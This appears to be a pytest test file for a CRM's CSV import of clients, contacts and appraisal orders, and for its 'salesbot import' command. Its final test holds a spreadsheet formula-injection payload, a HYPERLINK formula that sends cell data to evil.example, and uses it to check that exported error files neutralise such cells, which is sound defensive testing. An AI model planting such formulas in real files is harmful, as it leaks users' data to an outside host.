"""CSV import into the CRM tables, on SQLite and PostgreSQL, and the `salesbot import` command."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from bot.cli import app
from domain.imports import ImportKind, ImportReport, RowError
from storage import models as m
from storage.importer import BATCH_SIZE, import_csv
from tests.support.builders import make_client, make_contact, make_org

NOW = datetime(2026, 11, 25, 15, 0, tzinfo=UTC)
SAMPLES = Path(__file__).resolve().parents[2] / "samples"

SessionFactory = Callable[[], Session]


def run_import(
    session_factory: SessionFactory,
    org: m.Organization,
    kind: ImportKind,
    text: str,
    *,
    batch_size: int = BATCH_SIZE,
    dry_run: bool = False,
    now: datetime = NOW,
) -> ImportReport:
    """Import CSV text as the CLI would import a file."""
    return import_csv(
        session_factory,
        org_id=org.id,
        kind=kind,
        lines=io.StringIO(text, newline=""),
        now=now,
        dry_run=dry_run,
        batch_size=batch_size,
    )


def reasons(report: ImportReport) -> list[tuple[int, str]]:
    return [(e.row, e.reason) for e in report.sorted_errors()]


def counts(report: ImportReport) -> tuple[int, int, int, int]:
    """Rows read, inserted, updated, rejected."""
    return report.rows, report.inserted, report.updated, report.rejected


def contact_by_email(session: Session, org: m.Organization, email: str) -> m.Contact:
    session.expire_all()
    return session.scalars(
        select(m.Contact).where(m.Contact.org_id == org.id, m.Contact.email == email)
    ).one()


def client_by_domain(session: Session, org: m.Organization, domain: str) -> m.Client:
    session.expire_all()
    return session.scalars(
        select(m.Client).where(m.Client.org_id == org.id, m.Client.domain == domain)
    ).one()


def count(session: Session, model: type[m.Base], org: m.Organization) -> int:
    return session.scalar(select(func.count()).select_from(model).where(model.org_id == org.id))  # type: ignore[attr-defined, no-any-return]


@pytest.fixture
def org(session: Session) -> m.Organization:
    return make_org(session)


CLIENTS = """name,domain,client_type,tags
Pinnacle Lending,pinnaclelending.com,lender,texas;purchase
Redbud Valuation Management,https://www.redbudamc.com/,amc,national
"""

CONTACTS = """email,first_name,last_name,role_code,state,lead_score,client_domain
dana@pinnaclelending.com,Dana,Whitfield,LO,TX,88,pinnaclelending.com
marcus@pinnaclelending.com,Marcus,Reyes,LP,TX,62,pinnaclelending.com
vendors@redbudamc.com,Alan,Pierce,VM,TX,83,redbudamc.com
"""


# --- clients and contacts -------------------------------------------------------------


def test_clients_are_inserted_then_updated_not_duplicated_by_a_second_import(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    first = run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    second = run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    assert counts(first) == (2, 2, 0, 0)
    assert counts(second) == (2, 0, 2, 0)
    assert count(session, m.Client, org) == 2
    redbud = client_by_domain(session, org, "redbudamc.com")
    assert (redbud.name, redbud.client_type, redbud.tags) == (
        "Redbud Valuation Management",
        "amc",
        ["national"],
    )


def test_contacts_are_linked_to_their_clients_and_a_reimport_changes_nothing(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    first = run_import(session_factory, org, ImportKind.CONTACTS, CONTACTS)
    before = contact_by_email(session, org, "dana@pinnaclelending.com")
    snapshot = (before.id, before.updated_at, before.first_name, before.lead_score)
    second = run_import(
        session_factory, org, ImportKind.CONTACTS, CONTACTS, now=datetime(2026, 12, 1, tzinfo=UTC)
    )
    assert counts(first) == (3, 3, 0, 0)
    assert counts(second) == (3, 0, 3, 0)
    assert count(session, m.Contact, org) == 3
    dana = contact_by_email(session, org, "dana@pinnaclelending.com")
    pinnacle = client_by_domain(session, org, "pinnaclelending.com")
    assert dana.client_id == pinnacle.id
    # Nothing changed, so the row was not rewritten: same id, same updated_at.
    assert (dana.id, dana.updated_at, dana.first_name, dana.lead_score) == snapshot


def test_a_changed_row_is_updated_in_place(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    run_import(session_factory, org, ImportKind.CONTACTS, CONTACTS)
    later = datetime(2026, 12, 1, tzinfo=UTC)
    report = run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,last_name,lead_score\nDANA@pinnaclelending.com,Whitfield-Ross,91\n",
        now=later,
    )
    assert counts(report) == (1, 0, 1, 0)
    dana = contact_by_email(session, org, "dana@pinnaclelending.com")
    assert (dana.first_name, dana.last_name, dana.lead_score) == ("Dana", "Whitfield-Ross", 91)
    assert dana.updated_at == later


def test_every_bad_row_is_reported_with_its_row_and_reason_and_good_rows_still_land(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    text = (
        "email,first_name,state,lead_score,client_domain\n"
        "dana@pinnaclelending.com,Dana,TX,88,pinnaclelending.com\n"  # 2 good
        ",Nobody,TX,50,pinnaclelending.com\n"  # 3 missing email
        "marcus.pinnaclelending.com,Marcus,TX,50,pinnaclelending.com\n"  # 4 malformed email
        "kelly@lonestar.com,Kelly,TX,50,lonestarhomeloans.com\n"  # 5 unknown client
        "Dana@PinnacleLending.com,Dana,TX,88,pinnaclelending.com\n"  # 6 duplicate of 2
        "tom@pinnaclelending.com,Tom,Texass,50,pinnaclelending.com\n"  # 7 bad state
        "renee@redbudamc.com,Renee,TX,150,redbudamc.com\n"  # 8 bad lead score
        "alan@redbudamc.com,Alan,TX,83,redbudamc.com\n"  # 9 good
    )
    report = run_import(session_factory, org, ImportKind.CONTACTS, text)
    assert reasons(report) == [
        (3, "missing email"),
        (4, "malformed email 'marcus.pinnaclelending.com': An email address must have an @-sign."),
        (5, "unknown client domain lonestarhomeloans.com (import clients first)"),
        (6, "duplicate of row 2 (same email dana@pinnaclelending.com)"),
        (7, "bad state 'Texass': use a US state code such as TX"),
        (8, "bad lead_score '150': use a whole number from 0 to 100"),
    ]
    assert counts(report) == (8, 2, 0, 6)
    session.expire_all()
    stored = session.scalars(
        select(m.Contact.email).where(m.Contact.org_id == org.id).order_by(m.Contact.email)
    ).all()
    assert stored == ["alan@redbudamc.com", "dana@pinnaclelending.com"]
    unknown = next(e for e in report.errors if e.row == 5)
    assert unknown == RowError(
        5,
        5,
        "unknown client domain lonestarhomeloans.com (import clients first)",
        ("kelly@lonestar.com", "Kelly", "TX", "50", "lonestarhomeloans.com"),
    )


def test_a_rejected_row_after_a_multi_line_cell_has_its_spreadsheet_row_and_file_line(
    session_factory: SessionFactory, org: m.Organization
) -> None:
    text = (
        "email,title\n"
        'dana@pinnacle.com,"Senior Loan Officer\nTravis and Hays counties"\n'
        "not-an-email,Processor\n"
        "marcus@pinnacle.com,Processor\n"
    )
    report = run_import(session_factory, org, ImportKind.CONTACTS, text)
    assert counts(report) == (3, 2, 0, 1)
    assert [(e.row, e.line) for e in report.errors] == [(3, 4)]


def test_rows_of_early_batches_land_when_a_later_batch_has_bad_rows(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    text = (
        "email,client_domain\n"
        "a@pinnaclelending.com,pinnaclelending.com\n"
        "b@pinnaclelending.com,pinnaclelending.com\n"
        "c@pinnaclelending.com,pinnaclelending.com\n"
        "d@pinnaclelending.com,nowhere.com\n"
        "e@pinnaclelending.com,pinnaclelending.com\n"
    )
    report = run_import(session_factory, org, ImportKind.CONTACTS, text, batch_size=2)
    assert counts(report) == (5, 4, 0, 1)
    assert reasons(report) == [(5, "unknown client domain nowhere.com (import clients first)")]
    assert count(session, m.Contact, org) == 4


def test_reimport_never_clears_an_opt_out_and_keeps_the_first_opt_out_date(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,opted_out\ndana@pinnacle.com,2026-06-12\nmarcus@pinnacle.com,yes\n",
    )
    report = run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,opted_out\ndana@pinnacle.com,2026-10-01\nmarcus@pinnacle.com,no\n",
        now=datetime(2026, 12, 1, tzinfo=UTC),
    )
    assert counts(report) == (2, 0, 2, 0)
    assert contact_by_email(session, org, "dana@pinnacle.com").opted_out_at == datetime(
        2026, 6, 12, tzinfo=UTC
    )
    assert contact_by_email(session, org, "marcus@pinnacle.com").opted_out_at == NOW


def test_an_import_can_opt_out_a_contact_that_had_not_opted_out(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    make_contact(session, org, email="dana@pinnacle.com")
    run_import(session_factory, org, ImportKind.CONTACTS, "email,opted_out\ndana@pinnacle.com,1\n")
    assert contact_by_email(session, org, "dana@pinnacle.com").opted_out_at == NOW


def test_an_opt_out_or_bounce_in_the_file_stops_that_contacts_enrollments_in_every_job(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    dana = make_contact(session, org, email="dana@pinnacle.com")
    ray = make_contact(session, org, email="ray@pinnacle.com")
    kept = make_contact(session, org, email="kept@pinnacle.com")
    jobs = [m.Job(org_id=org.id, name=f"job {n}", status="running", params={}) for n in (1, 2)]
    session.add_all(jobs)
    session.flush()
    for job in jobs:
        for contact in (dana, ray, kept):
            session.add(
                m.Enrollment(org_id=org.id, job_id=job.id, contact_id=contact.id, status="active")
            )
    session.commit()
    run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,opted_out,email_status\n"
        "dana@pinnacle.com,yes,valid\nray@pinnacle.com,no,bounced\nkept@pinnacle.com,no,valid\n",
    )
    session.expire_all()
    statuses = {
        (e.contact_id, e.status)
        for e in session.scalars(select(m.Enrollment).where(m.Enrollment.org_id == org.id))
    }
    assert statuses == {(dana.id, "stopped"), (ray.id, "stopped"), (kept.id, "active")}


def test_reimport_never_undoes_a_bounce_or_a_complaint_but_can_record_one(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    make_contact(session, org, email="bounced@pinnacle.com", email_status="bounced")
    make_contact(session, org, email="complained@pinnacle.com", email_status="complained")
    make_contact(session, org, email="valid@pinnacle.com", email_status="valid")
    text = (
        "email,email_status\n"
        "bounced@pinnacle.com,valid\n"
        "complained@pinnacle.com,bounced\n"
        "valid@pinnacle.com,complained\n"
    )
    report = run_import(session_factory, org, ImportKind.CONTACTS, text)
    assert counts(report) == (3, 0, 3, 0)
    statuses = {
        email: contact_by_email(session, org, email).email_status
        for email in ("bounced@pinnacle.com", "complained@pinnacle.com", "valid@pinnacle.com")
    }
    assert statuses == {
        "bounced@pinnacle.com": "bounced",
        "complained@pinnacle.com": "complained",
        "valid@pinnacle.com": "complained",
    }


def test_empty_cells_and_absent_columns_leave_stored_values_alone(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    client = make_client(session, org, domain="pinnaclelending.com")
    make_contact(
        session,
        org,
        client,
        email="dana@pinnaclelending.com",
        title="Senior Loan Officer",
        phone="512-555-0142",
        tags=["purchase"],
        lead_score=88,
        timezone="America/Chicago",
    )
    report = run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,title,tags,lead_score,first_name\ndana@pinnaclelending.com,,,,Dana\n",
    )
    assert counts(report) == (1, 0, 1, 0)
    dana = contact_by_email(session, org, "dana@pinnaclelending.com")
    assert (dana.first_name, dana.title, dana.phone, dana.tags, dana.lead_score) == (
        "Dana",
        "Senior Loan Officer",
        "512-555-0142",
        ["purchase"],
        88,
    )
    assert (dana.client_id, dana.timezone, dana.email_status) == (
        client.id,
        "America/Chicago",
        "valid",
    )


def test_tags_in_the_file_replace_the_stored_tags(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    make_contact(session, org, email="dana@pinnacle.com", tags=["purchase"])
    run_import(session_factory, org, ImportKind.CONTACTS, "email,tags\ndana@pinnacle.com,VA;fha\n")
    assert contact_by_email(session, org, "dana@pinnacle.com").tags == ["va", "fha"]


def test_a_new_client_without_a_name_is_named_after_its_domain_and_a_known_one_keeps_its_name(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    make_client(session, org, name="Pinnacle Lending", domain="pinnaclelending.com")
    report = run_import(
        session_factory,
        org,
        ImportKind.CLIENTS,
        "name,domain,client_type\n,pinnaclelending.com,lender\n,redbudamc.com,amc\n",
    )
    assert counts(report) == (2, 1, 1, 0)
    assert client_by_domain(session, org, "pinnaclelending.com").name == "Pinnacle Lending"
    assert client_by_domain(session, org, "pinnaclelending.com").client_type == "lender"
    assert client_by_domain(session, org, "redbudamc.com").name == "redbudamc.com"


def test_an_import_touches_only_its_own_organization(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    other = make_org(session)
    make_client(session, other, domain="lonestarhomeloans.com")
    theirs = make_contact(session, other, email="dana@pinnacle.com", first_name="Theirs")
    report = run_import(
        session_factory,
        org,
        ImportKind.CONTACTS,
        "email,first_name,client_domain\n"
        "dana@pinnacle.com,Ours,\n"
        "kelly@lonestarhomeloans.com,Kelly,lonestarhomeloans.com\n",
    )
    assert counts(report) == (2, 1, 0, 1)
    assert reasons(report) == [
        (3, "unknown client domain lonestarhomeloans.com (import clients first)")
    ]
    assert contact_by_email(session, org, "dana@pinnacle.com").first_name == "Ours"
    assert contact_by_email(session, other, "dana@pinnacle.com").id == theirs.id
    assert contact_by_email(session, other, "dana@pinnacle.com").first_name == "Theirs"


def test_a_dry_run_reports_what_would_happen_and_writes_nothing(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    report = run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS, dry_run=True)
    assert counts(report) == (2, 2, 0, 0)
    assert report.dry_run is True
    assert count(session, m.Client, org) == 0


def test_a_batch_the_database_refuses_stops_the_import_and_says_which_rows(
    session_factory: SessionFactory, session: Session
) -> None:
    missing = m.Organization(id=987654, slug="gone", name="Gone")
    report = run_import(session_factory, missing, ImportKind.CLIENTS, CLIENTS, batch_size=1)
    assert report.fatal is not None
    assert report.fatal.startswith("the database refused rows 2-2: ")
    assert report.fatal.endswith(
        "Rows before them were imported; fix the cause and import the file again "
        "(it is safe to repeat)."
    )
    assert (report.inserted, report.updated) == (0, 0)
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(m.Client)) == 0


# --- orders ---------------------------------------------------------------------------

ORDERS_HEADER = (
    "order_number,client_domain,contact_email,property_address,city,state,postal_code,"
    "status,ordered_date,fee\n"
)


def test_orders_keep_each_clients_last_ordered_at_at_its_latest_order(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    text = ORDERS_HEADER + (
        "A-1,pinnaclelending.com,,,,,,completed,2026-04-02,$650.00\n"
        "A-2,pinnaclelending.com,,,,,,completed,2026-07-05,$700.00\n"
        "A-3,redbudamc.com,,,,,,ordered,03/11/2026,\n"
    )
    report = run_import(session_factory, org, ImportKind.ORDERS, text)
    assert counts(report) == (3, 3, 0, 0)
    assert client_by_domain(session, org, "pinnaclelending.com").last_ordered_at == datetime(
        2026, 7, 5, tzinfo=UTC
    )
    assert client_by_domain(session, org, "redbudamc.com").last_ordered_at == datetime(
        2026, 3, 11, tzinfo=UTC
    )
    # A-2 was mistyped: it is a Redbud order of May. Both clients' dates follow.
    fix = ORDERS_HEADER + "A-2,redbudamc.com,,,,,,completed,2026-05-20,$700.00\n"
    again = run_import(session_factory, org, ImportKind.ORDERS, fix)
    assert counts(again) == (1, 0, 1, 0)
    assert client_by_domain(session, org, "pinnaclelending.com").last_ordered_at == datetime(
        2026, 4, 2, tzinfo=UTC
    )
    assert client_by_domain(session, org, "redbudamc.com").last_ordered_at == datetime(
        2026, 5, 20, tzinfo=UTC
    )


def test_orders_link_contacts_and_one_property_per_address(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    run_import(session_factory, org, ImportKind.CONTACTS, CONTACTS)
    text = ORDERS_HEADER + (
        "A-1,pinnaclelending.com,dana@pinnaclelending.com,1407 Barton Hills Dr.,Austin,TX,"
        "78704,completed,2026-04-02,$650.00\n"
        "A-2,pinnaclelending.com,Dana@PinnacleLending.com,1407 barton hills dr,AUSTIN,tx,"
        "78704,In Review,2026-07-05,\n"
    )
    report = run_import(session_factory, org, ImportKind.ORDERS, text)
    assert counts(report) == (2, 2, 0, 0)
    session.expire_all()
    orders = session.scalars(
        select(m.AppraisalOrder)
        .where(m.AppraisalOrder.org_id == org.id)
        .order_by(m.AppraisalOrder.order_number)
    ).all()
    dana = contact_by_email(session, org, "dana@pinnaclelending.com")
    (only,) = session.scalars(select(m.Property).where(m.Property.org_id == org.id)).all()
    assert [(o.contact_id, o.property_id, o.status) for o in orders] == [
        (dana.id, only.id, "completed"),
        (dana.id, only.id, "in_review"),
    ]
    assert (only.address_line, only.city, only.state, only.postal_code, only.address_key) == (
        "1407 Barton Hills Dr.",
        "Austin",
        "TX",
        "78704",
        "1407 barton hills dr austin tx 78704",
    )
    assert orders[0].property_address == "1407 Barton Hills Dr., Austin, TX 78704"
    assert [o.fee for o in orders] == [Decimal("650.00"), None]


def test_an_order_with_an_unknown_client_or_contact_or_a_bad_date_is_refused(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    run_import(session_factory, org, ImportKind.CLIENTS, CLIENTS)
    text = ORDERS_HEADER + (
        "A-1,nowhere.com,,,,,,ordered,2026-04-02,\n"
        "A-2,pinnaclelending.com,ghost@pinnaclelending.com,,,,,ordered,2026-04-02,\n"
        "A-3,pinnaclelending.com,,,,,,ordered,2026-02-30,\n"
        "A-4,pinnaclelending.com,,,,,,ordered,2026-04-03,\n"
    )
    report = run_import(session_factory, org, ImportKind.ORDERS, text)
    assert reasons(report) == [
        (2, "unknown client domain nowhere.com (import clients first)"),
        (3, "unknown contact_email ghost@pinnaclelending.com (import contacts first)"),
        (4, "bad ordered_date '2026-02-30': use YYYY-MM-DD, MM/DD/YYYY or an ISO date-time"),
    ]
    assert counts(report) == (4, 1, 0, 3)
    assert count(session, m.AppraisalOrder, org) == 1


def test_the_samples_import_cleanly_and_reference_each_other(
    session_factory: SessionFactory, session: Session, org: m.Organization
) -> None:
    results = {}
    for kind in ImportKind:
        with (SAMPLES / f"{kind.value}.csv").open(newline="", encoding="utf-8-sig") as lines:
            results[kind] = import_csv(
                session_factory, org_id=org.id, kind=kind, lines=lines, now=NOW
            )
    assert {kind: (r.inserted, r.rejected, r.ignored_columns) for kind, r in results.items()} == {
        ImportKind.CLIENTS: (12, 0, ()),
        ImportKind.CONTACTS: (16, 0, ()),
        ImportKind.ORDERS: (17, 0, ()),
    }
    session.expire_all()
    never_ordered = session.scalars(
        select(m.Client.domain).where(m.Client.org_id == org.id, m.Client.last_ordered_at.is_(None))
    ).all()
    assert never_ordered == ["heritagehomefunding.com"]


# --- the command ----------------------------------------------------------------------


@pytest.fixture
def cli_env(
    committed_engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Callable[..., tuple[int, str]]:
    """Run `salesbot import` against the committed database, in org 'lonestar'.

    The output comes back with its runs of white space folded to one space, so that
    assertions do not depend on how the terminal width wrapped it.
    """
    monkeypatch.setenv("DATABASE_URL", committed_engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("SALESBOT_SECRET_KEY", "k" * 40)
    monkeypatch.chdir(tmp_path)
    with Session(committed_engine) as session:
        make_org(session, slug="lonestar")
        session.commit()
    runner = CliRunner()

    def invoke(*args: str) -> tuple[int, str]:
        result = runner.invoke(app, ["import", *args])
        return result.exit_code, " ".join(result.output.split())

    return invoke


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def contacts_in(engine: Engine) -> list[str]:
    with Session(engine) as session:
        return list(session.scalars(select(m.Contact.email).order_by(m.Contact.email)))


def test_the_command_imports_the_samples_and_exits_0(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine
) -> None:
    for kind in ("clients", "contacts", "orders"):
        code, output = cli_env(kind, str(SAMPLES / f"{kind}.csv"), "--org", "lonestar")
        assert code == 0, output
    assert "inserted │ 17 │" in output
    assert len(contacts_in(committed_engine)) == 16


def test_the_command_exits_1_and_lists_the_rejected_rows_when_some_are_bad(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
) -> None:
    source = write(
        tmp_path / "contacts.csv",
        "Email Address,First Name,Favorite Color\n"
        "dana@pinnacle.com,Dana,blue\n"
        "not-an-email,Marcus,green\n",
    )
    errors = tmp_path / "rejected.csv"
    code, output = cli_env(
        "contacts", str(source), "--org", "lonestar", "--errors-csv", str(errors)
    )
    assert code == 1
    assert "malformed email 'not-an-email': An email address must have an @-sign." in output
    assert "ignored columns: Favorite Color" in output
    assert contacts_in(committed_engine) == ["dana@pinnacle.com"]
    assert errors.read_text(encoding="utf-8-sig").splitlines() == [
        "row,line,reason,Email Address,First Name,Favorite Color",
        "3,3,malformed email 'not-an-email': An email address must have an @-sign.,"
        "not-an-email,Marcus,green",
    ]


def test_the_command_exits_2_for_an_unknown_org(
    cli_env: Callable[..., tuple[int, str]],
) -> None:
    code, output = cli_env("clients", str(SAMPLES / "clients.csv"), "--org", "nobody")
    assert code == 2
    assert "organization 'nobody' not found" in output


def test_the_command_exits_2_when_a_required_column_is_missing(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
) -> None:
    source = write(tmp_path / "contacts.csv", "first_name,last_name\nDana,Whitfield\n")
    errors = tmp_path / "rejected.csv"
    code, output = cli_env(
        "contacts", str(source), "--org", "lonestar", "--errors-csv", str(errors)
    )
    assert code == 2
    assert "a contacts file needs the column 'email'" in output
    assert contacts_in(committed_engine) == []
    assert not errors.exists()


def test_the_command_exits_2_when_the_database_has_no_schema(
    cli_env: Callable[..., tuple[int, str]], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'empty.db'}")
    code, output = cli_env("clients", str(SAMPLES / "clients.csv"), "--org", "lonestar")
    assert code == 2
    assert output == (
        f"error: the database at sqlite:///{tmp_path / 'empty.db'} has no schema: "
        "run `salesbot db upgrade`"
    )


def test_the_command_exits_2_for_a_file_that_is_not_utf8_and_imports_nothing(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
) -> None:
    source = write(
        tmp_path / "contacts.csv",
        "email,first_name\ndana@pinnacle.com,Dana\nrenee@pinnacle.com,Renée\n",
        encoding="cp1252",
    )
    code, output = cli_env("contacts", str(source), "--org", "lonestar")
    assert code == 2
    assert "the byte at offset 62 (line 3) is not valid UTF-8" in output
    assert "Save it as 'CSV UTF-8'" in output
    assert contacts_in(committed_engine) == []


def test_the_command_exits_2_for_a_file_it_cannot_read(
    cli_env: Callable[..., tuple[int, str]], tmp_path: Path
) -> None:
    code, output = cli_env("contacts", str(tmp_path / "missing.csv"), "--org", "lonestar")
    assert code == 2
    assert "cannot read the file: No such file or directory" in output


def test_the_command_reads_a_file_saved_with_a_byte_order_mark(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
) -> None:
    source = write(
        tmp_path / "contacts.csv", "Email,First Name\ndana@pinnacle.com,Dana\n", "utf-8-sig"
    )
    code, output = cli_env("contacts", str(source), "--org", "lonestar")
    assert code == 0, output
    assert contacts_in(committed_engine) == ["dana@pinnacle.com"]


def test_a_dry_run_of_the_command_writes_nothing(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine
) -> None:
    code, output = cli_env(
        "contacts", str(SAMPLES / "contacts.csv"), "--org", "lonestar", "--dry-run"
    )
    assert code == 1
    assert "dry run: nothing was written" in output
    assert "unknown client domain pinnaclelending.com (import clients first)" in output
    assert contacts_in(committed_engine) == []


def tags_by_domain(engine: Engine) -> dict[str, list[str]]:
    with Session(engine) as session:
        return {
            domain: tags for domain, tags in session.execute(select(m.Client.domain, m.Client.tags))
        }


@pytest.mark.parametrize(
    ("kind", "sample", "looks_like", "columns"),
    [
        ("clients", "contacts", "contacts", "email, first_name, last_name, title, …"),
        ("contacts", "orders", "orders", "order_number, contact_email, property_address, city, …"),
        ("orders", "clients", "clients", "name, client_type, tags"),
    ],
)
def test_a_file_of_another_kind_is_refused_by_its_header_and_nothing_is_written(
    cli_env: Callable[..., tuple[int, str]],
    committed_engine: Engine,
    kind: str,
    sample: str,
    looks_like: str,
    columns: str,
) -> None:
    code, _ = cli_env("clients", str(SAMPLES / "clients.csv"), "--org", "lonestar")
    assert code == 0
    before = tags_by_domain(committed_engine)

    code, output = cli_env(kind, str(SAMPLES / f"{sample}.csv"), "--org", "lonestar")

    assert code == 2
    assert output == (
        f"error: {SAMPLES / sample}.csv: this looks like a file of {looks_like}, not {kind} "
        f"(its header has {columns}); nothing was imported: run `salesbot import {looks_like}` "
        "with it"
    )
    assert tags_by_domain(committed_engine) == before
    assert contacts_in(committed_engine) == []


def test_formula_cells_in_the_errors_csv_are_written_as_text_and_read_back_as_they_were(
    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
) -> None:
    source = write(
        tmp_path / "contacts.csv",
        "email,first_name,last_name,title,phone\n"
        '=HYPERLINK("http://evil.example/?"&A1;"click"),+Dana,-Whitfield,@Loan,"\tx"\n',
    )
    errors = tmp_path / "rejected.csv"

    code, _ = cli_env("contacts", str(source), "--org", "lonestar", "--errors-csv", str(errors))

    assert code == 1
    rows = list(csv.reader(errors.open(encoding="utf-8-sig", newline="")))
    assert rows[1][3:] == [
        '\'=HYPERLINK("http://evil.example/?"&A1;"click")',
        "'+Dana",
        "'-Whitfield",
        "'@Loan",
        "'\tx",
    ]
    fixed = tmp_path / "fixed.csv"
    rows[1][3] = "dana@pinnaclelending.com"
    with fixed.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    code, output = cli_env("contacts", str(fixed), "--org", "lonestar")
    assert code == 0, output
    with Session(committed_engine) as session:
        contact = session.scalars(select(m.Contact)).one()
    assert (contact.first_name, contact.last_name, contact.title) == (
        "+Dana",
        "-Whitfield",
        "@Loan",
    )
